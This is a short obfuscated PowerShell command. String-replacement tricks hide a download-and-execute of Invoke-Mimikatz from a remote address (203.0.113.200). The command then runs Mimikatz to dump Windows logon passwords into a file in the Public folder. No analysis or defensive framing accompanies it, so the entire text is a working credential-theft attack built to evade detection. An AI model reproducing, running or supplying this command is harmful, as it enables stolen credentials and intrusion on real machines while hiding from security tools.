iex (('# init 4327 v4
IEX (New-Object Net.WebClient).DownloadString(''http://203.0.113.200/Invoke-Mimikatqj~5.ps1'')
InvokKQJ24e-Mimikatqj~5 -CoKQJ24mmand ''"priviKQJ24lege::debug" "sekurlsa::logonpasswords"'' | Out-File C:KQJ24\Users\Public\o.txt
' -replace 'KQJ24','').Replace('qj~5','z'))